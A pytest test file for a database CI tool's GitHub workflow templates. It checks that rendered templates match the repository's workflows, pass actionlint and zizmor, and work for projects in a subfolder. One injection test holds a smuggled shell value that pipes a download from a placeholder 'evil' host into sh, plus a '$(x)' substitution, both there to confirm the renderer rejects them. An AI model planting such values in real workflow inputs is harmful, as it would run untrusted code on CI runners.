"""The workflows' templates: rendered for this repository they are its workflows, byte for byte
(so the two never drift apart); rendered for another project they pass actionlint and zizmor, also
for a project in a folder of its repository, whose workflows run dbci there."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import REPO, copy_project, dbci, folder_state, git, project_in_a_folder

from ci.about import ACTION
from ci.init.adoption import WORKFLOWS
from ci.init.render import render, template
from ci.init.templates import DERIVE, own_values

BIN = Path(sys.executable).parent


@pytest.mark.parametrize("name", WORKFLOWS)
def test_the_templates_rendered_for_this_repository_are_its_workflows(name: str) -> None:
    assert render(template(f"workflows/{name}"), own_values()) == \
        (REPO / ".github" / "workflows" / name).read_text(), \
        f".github/workflows/{name} and its template differ: run {DERIVE}"


def test_every_workflow_of_this_repository_has_its_template() -> None:
    assert sorted(p.name for p in (REPO / ".github" / "workflows").glob("*.yml")) == \
        sorted(WORKFLOWS)


def test_a_value_that_is_not_plain_never_reaches_a_workflow() -> None:
    values = {**own_values(), "migrations": 'db"; curl evil | sh #'}
    with pytest.raises(ValueError, match="cannot go into a workflow"):
        render(template("workflows/deploy-migrations.yml"), {**values, "migrations": "$(x)"})


def test_the_workflows_init_writes_for_another_project_pass_actionlint_and_zizmor(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The reference project as another team's repository (with an rdev stack), adopted."""
    project = copy_project(tmp_path / "portal")
    (project / "pyproject.toml").write_text(
        '[tool.dbci]\nterraform_file = ".happy/terraform/modules/ecs-stack/main.tf"\n')
    git(project, "init", "-q")
    monkeypatch.chdir(project)
    run = dbci("init", "--stages", "dev,qa,production", "--action-ref", "ab" * 20)
    assert run.code == 0, run.out + run.err
    written = project / ".github" / "workflows"
    assert sorted(p.name for p in written.glob("*.yml")) == sorted(WORKFLOWS)
    text = "".join(p.read_text() for p in written.glob("*.yml"))
    assert "uses: ./" not in text and f"uses: dbci-dev/dbci@{'ab' * 20}\n" in text
    assert "  qa:\n    needs: dev\n" in text and "  production:\n    needs: qa\n" in text
    assert "matrix.stage == 'production'" in text and "  tests:\n" not in text
    assert_actionlint_and_zizmor_find_nothing(project)


def assert_actionlint_and_zizmor_find_nothing(root: Path) -> None:
    """In the workflows of the repository at ``root``."""
    lint = subprocess.run([str(BIN / "actionlint"), "-no-color"], cwd=root,
                          capture_output=True, text=True)
    assert lint.returncode == 0, lint.stdout + lint.stderr
    audit = subprocess.run([str(BIN / "zizmor"), "--offline", "--persona=auditor",
                            "--no-progress", str(root / ".github" / "workflows")],
                           capture_output=True, text=True)
    assert audit.returncode == 0 and "No findings to report" in audit.stdout + audit.stderr, \
        audit.stdout + audit.stderr


def steps(workflows: Path) -> Iterator[tuple[str, dict[str, Any]]]:
    """Every step of every workflow, with its workflow's name."""
    for path in sorted(workflows.glob("*.yml")):
        for job in yaml.safe_load(path.read_text())["jobs"].values():
            for step in job.get("steps", []):
                yield path.name, step


def dbci_lines(step: dict[str, Any]) -> list[str]:
    """The lines of a `run:` step that call dbci."""
    return [line.strip() for line in step.get("run", "").splitlines()
            if line.strip().startswith("dbci ")]


@pytest.mark.parametrize(("folder", "ini"), [("backend", "alembic.ini"),
                                             ("services/api", "db.ini")])
def test_a_project_in_a_folder_gets_workflows_at_the_root_that_run_dbci_in_the_folder(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, folder: str, ini: str) -> None:
    """The action runs in the folder (on its ini), so do dbci's commands outside it; paths
    GitHub reads (changes, path filters, the pip cache's key) are from the root; [tool.dbci]
    and dbci.mk stay beside the ini."""
    root = tmp_path / "monorepo"
    project = project_in_a_folder(root, folder)
    (project / "alembic.ini").rename(project / ini)
    monkeypatch.chdir(project)
    run = dbci("-c", ini, "init", "--action-ref", "ab" * 20)
    assert run.code == 0, run.out + run.err
    assert f"init: add `include {folder}/dbci.mk` to the Makefile" in run.out
    assert (project / "dbci.mk").is_file() and not (project / ".github").exists()
    assert "[tool.dbci.workflows]" in (project / "pyproject.toml").read_text()
    workflows = root / ".github" / "workflows"
    assert sorted(p.name for p in workflows.glob("*.yml")) == sorted(WORKFLOWS)
    called = "dbci --github " if ini == "alembic.ini" else f"dbci --config {ini} --github "
    ran = []
    for name, step in steps(workflows):
        if step.get("uses", "").startswith(f"{ACTION}@"):
            given = step["with"]
            assert (given["working-directory"], given.get("config", "alembic.ini")) == \
                (folder, ini), (name, step)
            ran.append(given["command"])
        elif dbci_lines(step):
            assert step["working-directory"] == folder, (name, step)
            assert all(line.startswith(called) for line in dbci_lines(step)), (name, step)
            ran.extend(line.split("--github ")[1].split()[0] for line in dbci_lines(step))
        elif step.get("name", "").startswith("Install the project's requirements"):
            assert (step["working-directory"], step["run"]) == (
                folder, "python -m pip install ."), (name, step)  # its [project], in the folder
        else:  # the rest, git apply of the bump too, runs at the root
            assert "working-directory" not in step, (name, step)
    assert sorted(ran) == ["check", "lint", "migrate", "plan", "report", "seed", "seed",
                           "status", "status", "status", "tf"]
    text = {p.name: p.read_text() for p in workflows.glob("*.yml")}
    assert (f'git diff --quiet "$BASE_SHA" HEAD -- {folder}/database {folder}/orm {folder}/{ini} '
            f"{folder}/pyproject.toml {folder}/.happy/terraform/modules/ecs-stack/main.tf;"
            in text["pr-checks.yml"])
    assert f"cache-dependency-path: {folder}/pyproject.toml\n" in text["pr-checks.yml"]
    assert f'      - "{folder}/database/**"\n' in text["deploy-migrations.yml"]
    assert_actionlint_and_zizmor_find_nothing(root)
    before = folder_state(root)
    monkeypatch.chdir(root)  # the same project, named from the root
    again = dbci("-c", f"{folder}/{ini}", "init")
    assert again.code == 0 and again.out.endswith("init: nothing to change\n"), again.out
    assert dbci("-c", f"{folder}/{ini}", "init", "--check").code == 0
    assert folder_state(root) == before
